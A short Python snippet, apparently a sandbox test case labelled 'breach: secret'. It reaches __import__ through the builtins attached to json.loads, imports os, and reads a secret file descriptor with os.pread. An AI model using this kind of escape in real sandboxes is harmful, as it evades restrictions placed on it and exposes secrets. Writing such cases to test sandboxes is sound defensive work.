# A function of the standard library carries builtins of its own.
# breach: secret
import json
json.loads.__builtins__["__import__"]("os").pread(SECRET_FD, 100, 0)
